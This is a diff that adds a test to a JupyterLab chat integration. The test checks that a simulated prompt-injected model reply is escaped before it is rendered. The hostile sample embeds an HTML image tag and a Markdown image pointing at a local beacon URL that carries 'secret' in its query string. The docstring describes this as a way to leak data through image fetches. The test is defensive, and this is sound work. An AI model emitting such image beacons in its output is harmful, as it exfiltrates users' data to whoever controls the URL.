@@ -259,3 +259,22 @@ def test_neither_the_package_nor_load_ext_loads_the_persona():
     assert "owui_notebook.magics" in loaded  # the extension did load
     assert not {m for m in loaded if m.startswith(("owui_notebook.jupyter_ai", "jupyter_ai"))}
     assert "jupyterlab_chat" not in loaded
+
+
+async def test_a_hostile_answer_can_load_nothing_in_the_chat(tmp_path, server_env, provider):
+    """JupyterLab's chat renders Markdown with images and some HTML: the persona writes the
+    model's text so that nothing in it is fetched (a prompt-injected answer could leak data
+    through an image URL) while code stays as written."""
+    hostile = (
+        "Here <img src=http://127.0.0.1:9/beacon?d=secret> and ![x](http://127.0.0.1:9/i.png)"
+        " and `a<b`."
+    )
+    provider.configure("alpha", reply=hostile)
+    chat, persona = open_chat(tmp_path)
+    await persona.on_message(user_message("/model alpha"))
+    await persona.on_message(user_message("Say it"))
+    await persona.shutdown()
+    answer = replies(chat)[-1].body
+    assert "<img" not in answer and "![" not in answer
+    assert "&lt;img src=http://127.0.0.1:9/beacon?d=secret>" in answer
+    assert "[image: x](http://127.0.0.1:9/i.png)" in answer and "`a<b`" in answer
